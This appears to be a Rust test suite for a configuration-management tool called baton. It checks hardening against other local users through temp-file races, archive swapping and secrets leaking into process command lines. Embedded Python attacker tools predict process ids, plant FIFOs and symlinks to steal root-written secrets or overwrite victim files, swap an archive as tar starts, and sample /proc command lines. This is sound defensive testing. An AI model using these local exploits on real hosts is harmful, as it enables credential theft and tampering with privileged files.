//! Hardening of what baton does on a host against the host's other local users (issue 16,
//! items 2 and 3), on a dedicated fleet host with an unprivileged user `mallory`:
//!
//! - temporary paths: a FIFO or symbolic link planted at any name baton might write to makes
//!   it neither leak content nor write through the link; an archive to unpack cannot be
//!   swapped; a private directory replaced under baton is refused before anything is written;
//! - command lines: no script, checksum or content baton sends appears in the arguments of any
//!   process on the host (every local user can read those), on every path a script takes
//!   (the long-lived shell, a channel of its own, framed input, sudo with and without a
//!   password, the local connection).
//!
//! Each attack is what the old code fell to; the comment of each test says how it failed
//! there (verified by running this file against the code before the fix: see
//! `HARDEN_BATON_BIN`). Everything is checked on the host through `docker exec`, and every
//! test removes what it made. The attacker's tools are small Python programs run in the
//! container as `mallory` (one process each: planting thousands of names with shell loops
//! would use up the very process ids the attack predicts).
//!
//! `HARDEN_BATON_BIN=/path/to/baton` runs the playbook tests against another baton binary
//! (the one built from the code before the fix, to see them fail).

mod common;

use baton::connection::local::LocalConnection;
use baton::connection::{ConnectSpec, Connection, Stdin, Transport, connect};
use baton::modules::transfer::sha1_hex;
use baton::modules::{Become, ModuleCtx};
use baton::value::Value;
use common::{Fleet, describe};
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

// ---------------------------------------------------------------------------------- the host

/// One host of its own (its users and /tmp are changed), with the attacker's account.
fn fleet() -> &'static Fleet {
    static FLEET: OnceLock<Fleet> = OnceLock::new();
    FLEET.get_or_init(|| {
        let fleet = Fleet::dedicated("baton-harden", 1);
        let host = fleet.hosts()[0].name.clone();
        let out = fleet.exec(&host, "id mallory >/dev/null 2>&1 || useradd -m mallory");
        assert!(out.status.success(), "useradd: {}", describe(&out));
        fleet
    })
}

/// The tests of this file take turns: they share one host, predict its process ids and look
/// at what is left in its /tmp.
fn one_at_a_time() -> MutexGuard<'static, ()> {
    static LOCK: Mutex<()> = Mutex::new(());
    LOCK.lock().unwrap_or_else(|e| e.into_inner())
}

fn host() -> String {
    fleet().hosts()[0].name.clone()
}

/// Runs `cmd` as root on the host (docker exec); must succeed; gives stdout.
fn root(cmd: &str) -> String {
    let out = fleet().exec(&host(), cmd);
    common::stdout_ok(&out, &format!("docker exec {cmd:?}"))
}

/// Runs `cmd` as `mallory` on the host.
fn mallory(cmd: &str) -> Output {
    Command::new("docker")
        .args(["exec", "-u", "mallory", &host(), "sh", "-c", cmd])
        .stdin(Stdio::null())
        .output()
        .expect("docker exec")
}

/// Puts `text` into `path` on the host (as root), then hands it to `owner`.
fn put_on_host(path: &str, text: &str, owner: &str) {
    let mut child = Command::new("docker")
        .args([
            "exec",
            "-i",
            &host(),
            "sh",
            "-c",
            &format!("cat > '{path}' && chown {owner}: '{path}'"),
        ])
        .stdin(Stdio::piped())
        .spawn()
        .expect("docker exec");
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success(), "writing {path}");
}

/// Starts a program in the background in the container (`docker exec -d`) as `user`.
fn background(user: &str, argv: &[&str]) {
    let out = Command::new("docker")
        .args(["exec", "-d", "-u", user, &host()])
        .args(argv)
        .output()
        .expect("docker exec -d");
    assert!(out.status.success(), "docker exec -d: {}", describe(&out));
}

/// Waits until `path` exists on the host (a background program says it is ready).
fn wait_for_file(path: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !fleet()
        .exec(&host(), &format!("test -e '{path}'"))
        .status
        .success()
    {
        assert!(Instant::now() < deadline, "{path} never appeared");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn token() -> String {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("{}-{}", std::process::id(), nanos % 1_000_000_000_000)
}

// ------------------------------------------------------------------------------ running baton

/// The baton under test: this build, or `HARDEN_BATON_BIN`.
fn baton_bin() -> PathBuf {
    std::env::var_os("HARDEN_BATON_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(common::baton_bin)
}

/// A directory on the controller for one playbook, removed on drop.
struct Workdir(PathBuf);

impl Workdir {
    fn new(tag: &str) -> Workdir {
        let dir = std::env::temp_dir().join(format!("baton-harden-{tag}-{}", token()));
        std::fs::create_dir_all(&dir).unwrap();
        Workdir(dir)
    }

    fn write(&self, name: &str, content: &[u8]) {
        std::fs::write(self.0.join(name), content).unwrap();
    }

    /// Runs `tasks` (YAML, indented for a play's task list) on the host.
    fn play(&self, play_keywords: &str, tasks: &str) -> Output {
        let play = format!("- hosts: all\n  gather_facts: false\n{play_keywords}  tasks:\n{tasks}");
        self.write("play.yml", play.as_bytes());
        Command::new(baton_bin())
            .args(["play", "-i"])
            .arg(fleet().inventory_path())
            .arg("play.yml")
            .current_dir(&self.0)
            // The fleet connects as root: `become` to root goes through sudo only when asked
            // to (as in ansible), and sudo's command lines are what these tests inspect.
            .env("ANSIBLE_BECOME_ALLOW_SAME_USER", "1")
            .stdin(Stdio::null())
            .output()
            .expect("run baton")
    }
}

impl Drop for Workdir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// `ls -A` of a directory on the host, one name a line.
fn listing(dir: &str) -> String {
    root(&format!("ls -A '{dir}'"))
}

/// What baton left in the host's /tmp: private directories must all be gone.
fn leftover_private_dirs() -> String {
    root("find /tmp -maxdepth 1 -name '.baton-*' -type d -user root")
}

// --------------------------------------------------------------------------- attacker tools

/// Plants FIFOs at `DIR/.baton_tmp<pid>` for the next `COUNT` process ids (the name the old
/// put_file used, `$$` being the host's long-lived shell) and symbolic links at the backup
/// names `DEST.<pid>.<time>~` for the next `SECS` seconds, pointing at `VICTIM`. Reads every
/// FIFO without blocking (a writer's open succeeds at once) and appends what it reads to
/// `LOOT`, reopening a FIFO after each writer, until `STOP` exists.
const FIFO_THIEF: &str = r#"
import os, select, sys, time
d, dest, victim, loot, ready, stop = sys.argv[1:7]
count, secs = int(sys.argv[7]), int(sys.argv[8])
last = int(open('/proc/sys/kernel/ns_last_pid').read())
fds = {}
def watch(n):
    fds[os.open(n, os.O_RDONLY | os.O_NONBLOCK)] = n
for pid in range(last + 1, last + 1 + count):
    n = '%s/.baton_tmp%d' % (d, pid)
    os.mkfifo(n, 0o666)
    watch(n)
    now = time.time()
    for s in range(secs):
        stamp = time.strftime('%Y-%m-%d@%H:%M:%S~', time.localtime(now + s))
        try:
            os.symlink(victim, '%s.%d.%s' % (dest, pid, stamp))
        except FileExistsError:
            pass
open(ready, 'w').close()
while not os.path.exists(stop):
    p = select.poll()
    for fd in fds:
        p.register(fd, select.POLLIN)
    for fd, ev in p.poll(100):
        data = os.read(fd, 65536) if ev & select.POLLIN else b''
        if data:
            with open(loot, 'ab') as f:
                f.write(data)
        elif ev & (select.POLLHUP | select.POLLIN):
            # The writer is gone: reopen, so the next writer finds a reader again.
            n = fds.pop(fd)
            os.close(fd)
            try:
                if os.path.exists(n) and not os.path.islink(n):
                    watch(n)
            except OSError:
                pass
"#;

/// Plants symbolic links at `/tmp/.baton-NAME.<pid>` for each NAME and the next `COUNT`
/// process ids (the scratch files the old modules wrote as root with a plain `>`), pointing
/// at `VICTIM`.
const TMP_LINKS: &str = r#"
import os, sys
victim, ready, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
names = sys.argv[4:]
last = int(open('/proc/sys/kernel/ns_last_pid').read())
for pid in range(last + 1, last + 1 + count):
    for name in names:
        try:
            os.symlink(victim, '/tmp/.baton-%s.%d' % (name, pid))
        except FileExistsError:
            pass
open(ready, 'w').close()
"#;

/// Keeps `TARGET` (the attacker's own file) as it is until a `tar` process runs on the host,
/// then writes `EVIL` into it: the moment between the old unarchive's upload and its unpacking.
const ARCHIVE_SWAP: &str = r#"
import os, sys, time
target, evil, ready, stop = sys.argv[1:5]
open(ready, 'w').close()
while not os.path.exists(stop):
    for p in os.listdir('/proc'):
        if not p.isdigit():
            continue
        try:
            comm = open('/proc/%s/comm' % p).read().strip()
        except OSError:
            continue
        if comm == 'tar':
            try:
                data = open(evil, 'rb').read()
                with open(target, 'r+b') as f:
                    f.write(data)
                    f.truncate()
            except OSError:
                pass
    time.sleep(0.001)
"#;

/// Reads the command line of every process, over and over, until `STOP` exists; writes each
/// distinct one (NULs as spaces) to `LOG`, one a line.
const PS_SAMPLER: &str = r#"
import os, sys
log, ready, stop = sys.argv[1:4]
seen = set()
open(ready, 'w').close()
while not os.path.exists(stop):
    for p in os.listdir('/proc'):
        if not p.isdigit():
            continue
        try:
            line = open('/proc/%s/cmdline' % p, 'rb').read().replace(b'\0', b' ').strip()
        except OSError:
            continue
        if line and line not in seen:
            seen.add(line)
            with open(log, 'ab') as f:
                f.write(line + b'\n')
"#;

/// Copies a Python program to the host.
fn install_tool(name: &str, program: &str) -> String {
    let path = format!("/usr/local/lib/baton-harden-{name}.py");
    put_on_host(&path, program, "root");
    root(&format!("chmod 0755 '{path}'"));
    path
}

// ------------------------------------------------------------------------------------ tests

/// The FIFO attack on copy and template: mallory owns the destination's directory (no sticky
/// bit) and has planted FIFOs, each with a reader, at the names the old code would create its
/// temporary file under (`.baton_tmp$$`), and symbolic links to a root-owned file at the
/// backup names. Before the fix the copy opened mallory's FIFO (noclobber does not refuse
/// one), wrote the secret into it (mallory's loot got it), renamed the FIFO over the
/// destination (a FIFO owned by mallory), reported `changed` and exit 0; the backup's `cp -p`
/// wrote the old secret through mallory's link into the victim file.
#[test]
fn a_fifo_or_link_planted_in_the_destination_directory_gets_nothing() {
    let _turn = one_at_a_time();
    let t = token();
    let dir = format!("/srv/hx-fifo-{t}");
    let victim = format!("/etc/hx-victim-{t}");
    let loot = format!("/home/mallory/loot-{t}");
    let (ready, stop) = (format!("/tmp/hx-ready-{t}"), format!("/tmp/hx-stop-{t}"));
    let thief = install_tool("fifo-thief", FIFO_THIEF);
    root(&format!(
        "mkdir -p '{dir}' && chown mallory: '{dir}' && chmod 0755 '{dir}' && \
         printf 'victim\\n' > '{victim}' && chmod 0644 '{victim}'"
    ));
    // An older version of the file exists (backup: yes copies it).
    put_on_host(&format!("{dir}/app.conf"), "old-secret\n", "root");
    root(&format!("chmod 0600 '{dir}/app.conf'"));
    background(
        "mallory",
        &[
            "python3",
            &thief,
            &dir,
            &format!("{dir}/app.conf"),
            &victim,
            &loot,
            &ready,
            &stop,
            "400",
            "30",
        ],
    );
    wait_for_file(&ready);

    let secret = format!("password=hunter2-{t}");
    let w = Workdir::new("fifo");
    w.write("app.j2", format!("templated {secret}").as_bytes());
    let out = w.play(
        "",
        &format!(
            "    - copy: content={secret} dest={dir}/app.conf mode=0600 backup=yes\n\
             \x20   - template: src=app.j2 dest={dir}/tpl.conf mode=0600\n"
        ),
    );
    root(&format!("touch '{stop}'"));
    let stolen = fleet()
        .exec(&host(), &format!("cat '{loot}' 2>/dev/null"))
        .stdout;
    // (`timeout`: before the fix app.conf was mallory's FIFO, which nobody writes to any more.)
    let states = root(&format!(
        "stat -c '%n %F %U %a' '{dir}/app.conf' '{dir}/tpl.conf'; timeout 5 cat '{dir}/app.conf'; \
         echo; timeout 5 cat '{dir}/tpl.conf'; echo; cat '{victim}'"
    ));
    let backups = root(&format!(
        "find '{dir}' -name 'app.conf.*~' -type f -exec cat {{}} \\;"
    ));
    let left = listing(&dir);
    // Cleanup before asserting: the thief stops on its own once `stop` exists.
    std::thread::sleep(Duration::from_millis(300));
    root(&format!(
        "rm -rf '{dir}' '{victim}' '{loot}' '{ready}' '{stop}'"
    ));

    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        String::from_utf8_lossy(&stolen),
        "",
        "mallory read what root wrote"
    );
    assert_eq!(
        states,
        format!(
            "{dir}/app.conf regular file root 600\n{dir}/tpl.conf regular file root 600\n\
             {secret}\ntemplated {secret}\nvictim\n"
        ),
        "the destinations are root's regular files with the new content; the victim is untouched"
    );
    assert_eq!(backups, "old-secret\n", "the backup is a regular file");
    assert!(
        !left.lines().any(|l| l.starts_with(".baton-")),
        "private directories left behind: {left}"
    );
}

/// A private directory replaced between its creation and its use (what an attacker who wins
/// the race would do: rename baton's directory away and put another at its name) is refused
/// before anything is written: the task fails with a clear message and the destination keeps
/// its content. The race is made certain here by a `mkdir` (found first on PATH) that does
/// the swap right after creating the directory: once with a directory owned by mallory, once
/// with a root-owned world-writable one. (Before the fix there was no directory to replace:
/// the old code wrote through whatever it found at its predictable name, see the FIFO test.)
#[test]
fn a_private_directory_replaced_before_use_is_refused() {
    let _turn = one_at_a_time();
    let t = token();
    let dir = format!("/srv/hx-swap-{t}");
    let bin = format!("/usr/local/lib/hx-bin-{t}");
    root(&format!(
        "mkdir -p '{dir}' '{bin}' && chown mallory: '{dir}' && chmod 0755 '{dir}' && \
         printf 'keep\\n' > '{dir}/app.conf'"
    ));
    for (tag, make) in [
        (
            "mallory",
            "/bin/mkdir \"$last\" && chown mallory: \"$last\"",
        ),
        ("sticky", "/bin/mkdir -m 1777 \"$last\""),
    ] {
        put_on_host(
            &format!("{bin}/mkdir"),
            &format!(
                "#!/bin/sh\n/bin/mkdir \"$@\" || exit\nfor last; do :; done\n\
                 case $last in */.baton-*) mv \"$last\" \"$last.orig\" && {make} ;; esac\n"
            ),
            "root",
        );
        root(&format!("chmod 0755 '{bin}/mkdir'"));
        let w = Workdir::new("swap");
        let out = w.play(
            "",
            &format!(
                "    - copy: content=new-{t} dest={dir}/app.conf\n\
                 \x20     environment: {{PATH: '{bin}:/usr/bin:/bin'}}\n"
            ),
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(!out.status.success(), "{tag}: {}", describe(&out));
        assert!(
            text.contains("was replaced by something baton did not create"),
            "{tag}: {}",
            describe(&out)
        );
        assert_eq!(root(&format!("cat '{dir}/app.conf'")), "keep\n", "{tag}");
        // Nothing was written into the substitute.
        let subst = root(&format!(
            "for d in '{dir}'/.baton-*; do case $d in *.orig) ;; *) ls -A \"$d\";; esac; done"
        ));
        assert_eq!(
            subst, "",
            "{tag}: something was written into the substitute"
        );
        root(&format!("rm -rf '{dir}'/.baton-*"));
    }
    root(&format!("rm -rf '{dir}' '{bin}'"));
}

/// The unarchive swap: mallory knows the archive to be deployed (a public release) and has
/// created `/tmp/.baton-unarchive-<its sha1>` (the old upload path) with the same content, so
/// the old upload left it alone and mallory's, and swapped in an archive of her own as soon as
/// `tar` started: root unpacked `evil.txt` into the destination. Now the archive travels on
/// the command's stdin into a private directory; what root unpacks is what the controller sent.
#[test]
fn an_archive_cannot_be_swapped_before_it_is_unpacked() {
    let _turn = one_at_a_time();
    let t = token();
    let w = Workdir::new("unarchive");
    let src = w.0.join("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("good.txt"), format!("good {t}\n")).unwrap();
    let status = Command::new("tar")
        .args(["czf", "good.tgz", "-C", "src", "good.txt"])
        .current_dir(&w.0)
        .status()
        .unwrap();
    assert!(status.success());
    let good = std::fs::read(w.0.join("good.tgz")).unwrap();
    let sum = sha1_hex(&good);

    let dest = format!("/srv/hx-unarchive-{t}");
    let planted = format!("/tmp/.baton-unarchive-{sum}");
    let evil = format!("/home/mallory/evil-{t}.tgz");
    let (ready, stop) = (format!("/tmp/hx-ready-{t}"), format!("/tmp/hx-stop-{t}"));
    root(&format!("mkdir -p '{dest}'"));
    let out = mallory(&format!(
        "cd /home/mallory && mkdir -p e-{t} && echo evil > e-{t}/evil.txt && \
         tar czf '{evil}' -C e-{t} evil.txt && rm -rf e-{t}"
    ));
    assert!(out.status.success(), "{}", describe(&out));
    // The attacker's copy of the public archive, at the old upload path.
    let copy = Command::new("docker")
        .args(["cp"])
        .arg(w.0.join("good.tgz"))
        .arg(format!("{}:{planted}", host()))
        .status()
        .unwrap();
    assert!(copy.success());
    root(&format!(
        "chown mallory: '{planted}' && chmod 0666 '{planted}'"
    ));
    let swapper = install_tool("archive-swap", ARCHIVE_SWAP);
    background(
        "mallory",
        &["python3", &swapper, &planted, &evil, &ready, &stop],
    );
    wait_for_file(&ready);

    let out = w.play("", &format!("    - unarchive: src=good.tgz dest={dest}\n"));
    root(&format!("touch '{stop}'"));
    let files = listing(&dest);
    let content = fleet()
        .exec(&host(), &format!("cat '{dest}/good.txt'"))
        .stdout;
    std::thread::sleep(Duration::from_millis(200));
    root(&format!(
        "rm -rf '{dest}' '{planted}' '{evil}' '{ready}' '{stop}'"
    ));

    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(files, "good.txt\n", "what root unpacked");
    assert_eq!(String::from_utf8_lossy(&content), format!("good {t}\n"));
}

/// The /tmp symlink: mallory planted symbolic links to a root-owned file at the names the old
/// modules wrote their scratch output to as root with a plain `>` (`/tmp/.baton-show.$$` and
/// `.baton-showe.$$` for `service`, `.baton-ch.$$` for `user`'s chage, `$$` being the host's
/// long-lived shell). Before the fix root followed them (fs.protected_symlinks is 0 on the
/// fleet's kernel) and overwrote the victim with systemctl's and chage's output.
#[test]
fn links_planted_in_tmp_are_not_followed_by_system_modules() {
    let _turn = one_at_a_time();
    let t = token();
    let victim = format!("/etc/hx-tmp-victim-{t}");
    let ready = format!("/tmp/hx-ready-{t}");
    let user = format!("hx{}", &t[t.len() - 6..]);
    root(&format!(
        "printf 'victim\\n' > '{victim}' && chmod 0644 '{victim}'"
    ));
    let links = install_tool("tmp-links", TMP_LINKS);
    let out = mallory(&format!(
        "python3 '{links}' '{victim}' '{ready}' 400 show showe ch sc sce"
    ));
    assert!(out.status.success(), "{}", describe(&out));

    let w = Workdir::new("tmplinks");
    let out = w.play(
        "",
        &format!(
            "    - service: name=ssh state=started\n\
             \x20   - user: name={user} password_expire_max=99 create_home=no\n"
        ),
    );
    let after = root(&format!("cat '{victim}'"));
    let left = leftover_private_dirs();
    root(&format!(
        "find /tmp -maxdepth 1 -name '.baton-*' -user mallory -delete; \
         userdel {user} 2>/dev/null; rm -f '{victim}' '{ready}'"
    ));

    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(after, "victim\n", "root wrote through mallory's link");
    assert_eq!(left, "", "private directories left behind");
}

/// `ps` on the host during a copy and a template of secret content, with and without become,
/// small (the long-lived shell; through sudo) and large (streamed on a channel of its own),
/// and a user with a password and an SSH key generated with a passphrase: no command line
/// holds the content, its SHA-1, the password hash or the passphrase. Before the fix, sudo's
/// command line held the whole script (`... want=<sha1> ...`), and so did the login shell's of
/// a channel; useradd's and usermod's held the hash (`-p HASH`), ssh-keygen's the passphrase
/// (`-N PASSPHRASE`).
#[test]
fn no_command_line_on_the_host_holds_content_or_its_checksum() {
    let _turn = one_at_a_time();
    let t = token();
    let log = format!("/tmp/hx-ps-{t}.log");
    let (ready, stop) = (format!("/tmp/hx-ready-{t}"), format!("/tmp/hx-stop-{t}"));
    let sampler = install_tool("ps-sampler", PS_SAMPLER);
    background("root", &["python3", &sampler, &log, &ready, &stop]);
    wait_for_file(&ready);

    let secret = format!("pw-{t}");
    let user = format!("hxk{}", &t[t.len() - 6..]);
    // Password hashes (crypt format; never on useradd's or usermod's command line).
    let (hash1, hash2) = (format!("$6$a{t}$x"), format!("$6$b{t}$y"));
    let template = format!("db_password={secret}");
    let mut big = format!("big_secret={secret}\n").into_bytes();
    big.resize(600 * 1024, b'x');
    let w = Workdir::new("ps");
    w.write("secret.j2", template.as_bytes());
    w.write("big.txt", &big);
    let dest = format!("/root/hx-ps-{t}");
    let out = w.play(
        "  become: true\n",
        &format!(
            "    - copy: content={secret} dest={dest}-{{{{ item }}}} mode=0600\n\
             \x20     loop: [1, 2, 3, 4, 5, 6]\n\
             \x20   - template: src=secret.j2 dest={dest}-tpl mode=0600\n\
             \x20   - copy: src=big.txt dest={dest}-big mode=0600\n\
             \x20     become: false\n\
             \x20   - copy: src=big.txt dest={dest}-big2 mode=0600\n\
             \x20   - user: name={user} password={hash1} generate_ssh_key=yes ssh_key_type=ed25519 ssh_key_passphrase={secret}\n\
             \x20   - user: name={user} password={hash2}\n"
        ),
    );
    root(&format!("touch '{stop}'"));
    std::thread::sleep(Duration::from_millis(300));
    let seen = root(&format!("cat '{log}'"));
    // The key was encrypted with the passphrase (which never was on a command line).
    let key = fleet().exec(
        &host(),
        &format!("ssh-keygen -y -P '{secret}' -f /home/{user}/.ssh/id_ed25519"),
    );
    let shadow = root(&format!("getent shadow {user} | cut -d: -f2"));
    root(&format!(
        "rm -f '{dest}'-* '{log}' '{ready}' '{stop}'; userdel -r {user} 2>/dev/null; true"
    ));

    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        key.status.success(),
        "the key's passphrase: {}",
        describe(&key)
    );
    assert_eq!(shadow, format!("{hash2}\n"), "the password set last");
    // The sampler did see baton's processes (sudo's among them), so it looked often enough.
    assert!(
        seen.lines().any(|l| l.starts_with("sudo ")),
        "the sampler never saw sudo:\n{seen}"
    );
    for (what, needle) in [
        ("content (and passphrase)", secret.clone()),
        ("first password hash", hash1.clone()),
        ("second password hash", hash2.clone()),
        ("content's SHA-1", sha1_hex(secret.as_bytes())),
        ("template's SHA-1", sha1_hex(template.as_bytes())),
        ("big file's SHA-1", sha1_hex(&big)),
    ] {
        let hits: Vec<&str> = seen.lines().filter(|l| l.contains(&needle)).collect();
        assert!(
            hits.is_empty(),
            "the {what} is on a command line on the host:\n{}",
            hits.join("\n")
        );
    }
}

// ------------------------------------------------ command lines, checked by the script itself

/// A script that prints the command line of its own shell and of every ancestor up to PID 1.
/// Its text holds `mark`: if the text travelled on a command line, an ancestor shows it.
fn ancestry_script(mark: &str) -> String {
    format!(
        "# {mark}\n\
         p=$$\n\
         while [ \"$p\" -gt 1 ]; do\n\
           printf 'argv %s: %s\\n' \"$p\" \"$(tr '\\000' ' ' < /proc/$p/cmdline)\"\n\
           p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)\n\
         done\n\
         printf 'input %s\\n' \"$(head -c 20 | tr '\\000' '0')\"\n"
    )
}

async fn ssh(user: &str, become_password: Option<&str>) -> Arc<dyn Connection> {
    let mut spec = ConnectSpec::new("harden-test");
    spec.transport = Transport::Ssh;
    spec.address = "127.0.0.1".into();
    spec.port = fleet().hosts()[0].port;
    spec.user = user.into();
    spec.private_key_file = Some(fleet().key_path());
    spec.host_key_checking = false;
    spec.become_password = become_password.map(String::from);
    connect(&spec)
        .await
        .unwrap_or_else(|e| panic!("connect as {user}: {e}"))
}

fn ctx(conn: Arc<dyn Connection>, become_user: Option<&str>) -> ModuleCtx {
    ModuleCtx {
        host: "harden-test".into(),
        conn: Some(conn),
        vars: Value::from(()),
        check_mode: false,
        diff: false,
        become_: become_user.map(|u| Become {
            method: "sudo".into(),
            user: u.into(),
            flags: None,
        }),
        environment: Vec::new(),
        timeout: None,
    }
}

/// Runs the ancestry script in `ctx` with `input`; checks that it ran, that its input arrived,
/// and that no ancestor's command line holds the script.
async fn check_ancestry(what: &str, ctx: &ModuleCtx, input: Option<Vec<u8>>) {
    let mark = format!("BATON-MARK-{}", token());
    let script = ancestry_script(&mark);
    let expected_input = input
        .as_ref()
        .map(|i| {
            String::from_utf8_lossy(&i[..i.len().min(20)])
                .replace('\0', "0")
                .trim_end_matches('\n')
                .to_string()
        })
        .unwrap_or_default();
    let out = match input {
        None => ctx.exec_input(&script, Stdin::Null).await,
        Some(b) if b.len() > 64 * 1024 => {
            ctx.exec_input(&script, Stdin::Reader(Box::new(std::io::Cursor::new(b))))
                .await
        }
        Some(b) => ctx.exec_input(&script, Stdin::Bytes(&b)).await,
    }
    .unwrap_or_else(|e| panic!("{what}: {e:?}"));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.rc, Some(0), "{what}: {text} {:?}", out.stderr);
    assert!(text.contains("argv "), "{what}: {text}");
    assert!(
        text.contains(&format!("input {expected_input}\n")),
        "{what}: input did not arrive: {text}"
    );
    assert!(
        !text.contains(&mark),
        "{what}: the script is on a command line:\n{text}"
    );
}

/// Every path a script takes to a host's shell keeps it off the command lines: the
/// long-lived shell, a channel of its own (a time limit), framed input (binary, streamed),
/// sudo without a password (on the long-lived shell and on a channel) and with one. Before
/// the fix a channel's login shell ran `bash -c SCRIPT` and sudo `sudo ... /bin/sh -c SCRIPT`:
/// the mark showed in their command lines.
#[test]
fn scripts_reach_the_shell_on_stdin_on_every_path() {
    let _turn = one_at_a_time();
    block_on(scripts_on_every_path());
}

async fn scripts_on_every_path() {
    let binary = b"bin\0ary input\n".to_vec();
    let mut large = b"large input ".to_vec();
    large.resize(700 * 1024, b'z');
    for become_user in [None, Some("deploy")] {
        let who = become_user.unwrap_or("root");
        let conn = ssh("root", None).await;
        let mut c = ctx(conn, become_user);
        check_ancestry(&format!("{who}: long-lived shell"), &c, None).await;
        check_ancestry(
            &format!("{who}: long-lived shell with input"),
            &c,
            Some(b"text input".to_vec()),
        )
        .await;
        check_ancestry(&format!("{who}: binary input"), &c, Some(binary.clone())).await;
        check_ancestry(&format!("{who}: streamed input"), &c, Some(large.clone())).await;
        c.timeout = Some(Duration::from_secs(60));
        check_ancestry(&format!("{who}: own channel"), &c, None).await;
        check_ancestry(
            &format!("{who}: own channel with input"),
            &c,
            Some(b"text input".to_vec()),
        )
        .await;
    }
    // sudo with a password: the fleet's `secure` user (password `secure-pw`, in group sudo).
    let conn = ssh("secure", Some("secure-pw")).await;
    let c = ctx(conn, Some("root"));
    check_ancestry("sudo with a password", &c, None).await;
    check_ancestry(
        "sudo with a password and input",
        &c,
        Some(b"text input".to_vec()),
    )
    .await;
    check_ancestry("sudo with a password and binary input", &c, Some(binary)).await;
}

/// The local connection (the controller itself) starts `/bin/sh` the same way.
#[test]
fn the_local_connection_keeps_scripts_off_command_lines_too() {
    let _turn = one_at_a_time();
    block_on(async {
        let c = ctx(Arc::new(LocalConnection::new()), None);
        check_ancestry("local", &c, None).await;
        check_ancestry("local with input", &c, Some(b"text input".to_vec())).await;
        check_ancestry("local with binary input", &c, Some(b"a\0b".to_vec())).await;
    });
}

/// Runs a future to completion (the tests hold their turn outside of it).
fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime")
        .block_on(f)
}
